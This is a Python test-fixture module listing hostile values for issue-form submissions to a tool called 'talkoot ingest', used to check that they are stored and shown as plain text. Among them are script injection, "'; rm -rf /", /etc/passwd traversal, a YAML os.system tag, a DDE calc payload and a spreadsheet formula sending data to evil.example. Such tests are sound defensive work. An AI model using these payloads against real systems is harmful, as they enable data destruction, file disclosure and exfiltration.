"""Hostile values for submissions, shared by the tests.

Each value is something a sender could type into an issue form: markup and script,
template syntax of the tools the site is built with, Markdown extensions, GitHub
references and mentions, Unicode tricks, shell and path injection, YAML that means
something else unquoted, spreadsheet formulas. Apart from `LONG_TEXT` (refused by the
length bound) every value is an acceptable answer: it must travel from the issue body
through `talkoot ingest` into the written YAML and load back unchanged, and every page that
shows it must show it as text.
"""

from __future__ import annotations

from typing import Final

#: Values that are accepted as answers (textareas; single-line ones also as inputs).
HOSTILE_VALUES: Final[tuple[str, ...]] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[klikkaa](javascript:alert(1))",
    "{{ config }}",
    "{% raw %}",
    '--8<-- "/etc/passwd"',
    "--8<--\n/etc/passwd\n--8<--",
    "@mention",
    "#123",
    "`",
    "\u202eRTL override",
    "${{ github.token }}",
    "'; rm -rf /",
    "../../etc/passwd",
    "Alku\n### Työpaja\nLoppu",
    "<!-- talkoot:bot -->",
    "```\nkoodi\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "&lt;b&gt; &amp; </textarea></pre>",
    "yes",
    "null",
    "0123",
    "key: value",
    "- lista",
    "!!python/object/apply:os.system ['ls']",
    "*bold* _em_ ~~del~~ \\",
    "nolla\u200bleveys\ufeff ja \u2028rivinvaihto",
    "ääkköset ÅÄÖ 😀",
    '=HYPERLINK("https://evil.example/?d="&A1,"Lisää")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)

#: 60 000 characters: over every length bound of the forms (and under GitHub's 65 536).
LONG_TEXT: Final = ("Pitkä teksti. " * 4300)[:60_000]


def as_title(value: str) -> str | None:
    """`value` if it can be an issue title of a proposal (one line, 3-120 characters)."""
    single = "\n" not in value and "\r" not in value and "\u2028" not in value
    return value if single and 3 <= len(value.strip()) <= 120 else None


def as_input(value: str) -> str | None:
    """`value` if it can be typed into a one-line input of at most 120 characters."""
    single = "\n" not in value and "\r" not in value and "\u2028" not in value
    return value if single and 1 <= len(value.strip()) <= 120 else None
